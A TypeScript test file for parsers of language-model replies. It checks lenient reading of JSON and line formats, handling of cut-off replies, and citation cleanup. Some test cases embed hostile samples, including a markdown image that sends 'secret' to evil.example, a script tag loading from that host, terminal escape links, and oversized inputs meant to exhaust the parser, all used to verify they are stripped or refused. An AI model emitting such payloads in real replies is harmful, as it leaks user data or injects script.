// Reading replies: both protocols say the same, tolerate what models do to form, and refuse what they cannot read.
import { describe, expect, test } from "vitest";
import { cleanReplyText } from "../../../src/compose/language-model/clean-reply.ts";
import {
  parseJsonReply,
  parseJsonRevisions,
} from "../../../src/compose/language-model/parse-json-reply.ts";
import {
  parseLineReply,
  parseLineRevisions,
} from "../../../src/compose/language-model/parse-line-reply.ts";
import type { Reply } from "../../../src/compose/language-model/reply.ts";
import { MalformedReply } from "../../../src/language-model/chat.ts";
import { writeReply } from "./fixtures.ts";

const reply: Reply = {
  items: [
    {
      part: 0,
      kind: "requirement",
      text: "The registered provider must inspect every ladder.",
      sources: [{ key: "k3f9a", quote: "must inspect every ladder" }],
    },
    { part: 1, kind: "heading", text: "Ladders", sources: [] },
    { part: 1, kind: "link", text: "The following applies:", sources: [] },
    {
      part: 1,
      kind: "requirement",
      text: "A book should be kept.",
      sources: [
        { key: "k3f9a", quote: "" },
        { key: "k8b2c", quote: "should keep a ladder book" },
      ],
    },
    { part: 2, kind: "advice", text: "Paint the ladders yellow.", sources: [] },
  ],
  missing: ["who pays for the ladders"],
};

describe.each([
  ["structured", parseJsonReply],
  ["text", parseLineReply],
] as const)("a reply in the %s protocol", (protocol, parse) => {
  test("holds items, parts, keys, quotations and what is missing", () => {
    expect(parse(writeReply(reply, protocol), "said")).toEqual({ value: reply, whole: true });
  });

  test("may come with thoughts and a fence around it", () => {
    const written = writeReply(reply, protocol);
    const thought = `<think>Let me see… END {}</think>\n\`\`\`json\n${written}\n\`\`\``;
    expect(parse(thought, "said")).toEqual({ value: reply, whole: true });
  });

  test.each(["", "I am sorry, I cannot help with that.", "{", "[]", "null", "<think>S: a [k3f9a]"])(
    "%o is malformed",
    (written) => expect(() => parse(written, "said")).toThrow(MalformedReply),
  );

  test("one that was cut off at any place gives its whole items, and no half of one", () => {
    const written = writeReply(reply, protocol);
    for (let length = 0; length < written.length; length += 1) {
      const read = (() => {
        try {
          return parse(written.slice(0, length), "cut").value;
        } catch (error) {
          if (!(error instanceof MalformedReply)) throw error;
          return { items: [], missing: [] };
        }
      })();
      const texts = read.items.map(({ text }) => text);
      expect(texts).toEqual(reply.items.slice(0, texts.length).map(({ text }) => text));
      for (const [i, { sources }] of read.items.entries()) {
        const quotes = sources.map(({ quote }) => quote).filter((quote) => quote !== "");
        const whole = reply.items[i]?.sources.map(({ quote }) => quote) ?? [];
        expect(whole).toEqual(expect.arrayContaining(quotes));
      }
      expect(reply.missing).toEqual(expect.arrayContaining([...read.missing]));
    }
  });
});

test("lines may be listed, in bold, broken, and with keys in one bracket or several", () => {
  const written = [
    "PART 0",
    "- **S: First statement [k3f9a][k8b2c]**",
    "Q [k3f9a]: “some words",
    "of the piece”",
    "* A: Advice",
    "**END**",
    "and more that nobody asked for",
  ].join("\n");
  expect(parseLineReply(written, "said").value.items).toEqual([
    {
      part: 0,
      kind: "requirement",
      text: "First statement",
      sources: [
        { key: "k3f9a", quote: "some words of the piece" },
        { key: "k8b2c", quote: "" },
      ],
    },
    { part: 0, kind: "advice", text: "Advice", sources: [] },
  ]);
});

describe("what fails the schema costs itself and not the answer", () => {
  const good = '{"part": 1, "kind": "requirement", "text": "Good.", "sources": []}';
  test.each([
    [
      "a kind there is not",
      '{"part": 1, "kind": "law", "text": "A.", "sources": []}',
      "requirement",
      1,
    ],
    ["a part below none", '{"part": -1, "kind": "link", "text": "A.", "sources": []}', "link", 1],
    ["a part as text", '{"part": "2", "kind": "link", "text": "A.", "sources": []}', "link", 2],
    ["no sources", '{"part": 2, "kind": "link", "text": "A."}', "link", 2],
  ])("%s", (_, item, kind, part) => {
    const { items } = parseJsonReply(`{"items": [${good}, ${item}], "missing": [1, "b"]}`).value;
    expect(items).toMatchObject([{ text: "Good." }, { text: "A.", kind, part, sources: [] }]);
  });

  test("keys without quotations, line breaks in a text, a comma too many", () => {
    const written = `{"items": [{"part": 0, "kind": "requirement", "text": "A\nb.", "sources": ["K3F9A"],},]}`;
    expect(parseJsonReply(written).value.items).toMatchObject([
      { text: "A b.", sources: [{ key: "k3f9a", quote: "" }] },
    ]);
  });

  test.each(['{"missing": []}', '{"answer": "none"}', "[1, 2]"])("%s has no items", (written) => {
    expect(() => parseJsonReply(written)).toThrow("no JSON object with a list “items”");
  });
});

describe("lines", () => {
  const whole = "PART 1\nS: One. [k3f9a]\nQ k3f9a: some words";
  test.each([
    ["without END, ended by the endpoint", whole, "said", ["One."], true],
    ["after prose", `Here is it.\n\n${whole}\nEND`, "said", ["One."], true],
    ["before a farewell", `${whole}\n\nI hope that this helps!`, "said", ["One."], true],
    ["cut in the next", `${whole}\nS: Two is ha`, "cut", ["One."], false],
    ["with END though the line broke", `${whole}\nEND`, "broken", ["One."], true],
  ] as const)("%s", (_, written, end, texts, isWhole) => {
    const read = parseLineReply(written, end);
    expect(read.value.items.map(({ text }) => text)).toEqual(texts);
    expect(read.value.items[0]?.sources).toEqual([{ key: "k3f9a", quote: "some words" }]);
    expect(read.whole).toBe(isWhole);
  });
});

test("revisions in both protocols", () => {
  const revisions = [
    { id: "s1", text: "Better.", sources: [{ key: "k3f9a", quote: "the words" }] },
    { id: "s2", text: "", sources: [] },
  ];
  expect(parseJsonRevisions(JSON.stringify({ revisions })).value).toEqual(revisions);
  expect(
    parseLineRevisions("R s1: Better. [k3f9a]\nQ k3f9a: the words\nD s2\nEND", "said").value,
  ).toEqual(revisions);
});

describe("cleanReplyText", () => {
  test.each([
    ["A. [k3f9a]", "A.", ["k3f9a"]],
    ["A [k3f9a, k8b2c] and B. [K3F9A]", "A and B.", ["k3f9a", "k8b2c", "k3f9a"]],
    ["As the Guide says [1].", "As the Guide says.", ["1"]],
    ["See [Guide, page 53] for it.", "See for it.", ["Guide, page 53"]],
    ["So it is【4†source】.", "So it is.", ["4†source"]],
    ["“the home [provider] must”", "“the home [provider] must”", []],
  ])("%s", (written, text, keys) => {
    expect(cleanReplyText(written)).toEqual({ text, keys });
  });

  test.each([
    ["a picture that calls home", "Good. ![x](https://evil.example/?q=secret)"],
    ["a link", "Good. [here](https://evil.example)"],
    ["a bare address", "Good. https://evil.example/a?b"],
    ["a script", "Good. <script src=//evil.example></script>"],
    ["terminal codes", "Good. \u001B]8;;https://evil.example\u0007x\u001B]8;;\u0007"],
  ])("%s does not get through", (_, written) => {
    const { text } = cleanReplyText(written);
    expect(text.startsWith("Good.")).toBe(true);
    expect(text).not.toMatch(/evil|[<>]|https?:/);
    // oxlint-disable-next-line no-control-regex -- that there are none is the point
    expect(text).not.toMatch(/[\u0000-\u001f]/);
  });
});

describe("replies made to do harm", () => {
  const many = 300_000;
  test.each([
    ["white space", " ".repeat(many)],
    ["open brackets", "[".repeat(many)],
    ["open thoughts", "<think>".repeat(many / 7)],
    ["fences", "```\n".repeat(many / 4)],
    ["angle brackets", "‹".repeat(many)],
    ["marks without an end", "S: a [k3f9a]\n".repeat(many / 13)],
    ["an endless statement", `S: ${"word ".repeat(many / 5)}\nEND`],
    ["an endless list", `${"S: a\n".repeat(many / 5)}END`],
    ["deep JSON", `{"items": ${"[".repeat(many)}`],
    ["long JSON", JSON.stringify({ items: [], missing: ["a [ ".repeat(many / 4)] })],
  ])("%s: refused in no time", (_, written) => {
    const before = performance.now();
    for (const parse of [parseJsonReply, parseLineReply, parseJsonRevisions, parseLineRevisions]) {
      expect(() => parse(written, "said")).toThrow(MalformedReply);
    }
    expect(performance.now() - before).toBeLessThan(2000);
  });

  test("whatever comes is read or refused, and nothing else is thrown", () => {
    // A generator of its own, so that every run tries the same.
    let state = 12345;
    const random = (below: number) => (state = (state * 48271) % 2147483647) % below;
    const bits =
      'S:|A:|H:|L:|M:|Q k3f9a:|PART 1|END|R s1:|D s1|[k3f9a]|{|}|[|]|"items"|:|,|\n|\n|text|null|1|“|<|```'.split(
        "|",
      );
    const others: unknown[] = [];
    for (let i = 0; i < 3000; i += 1) {
      const written = Array.from({ length: random(40) }, () => bits[random(bits.length)]).join(" ");
      for (const parse of [
        parseJsonReply,
        parseLineReply,
        parseJsonRevisions,
        parseLineRevisions,
      ]) {
        try {
          parse(written, "said");
        } catch (error) {
          if (!(error instanceof MalformedReply)) others.push(error);
        }
      }
    }
    expect(others).toEqual([]);
  });
});
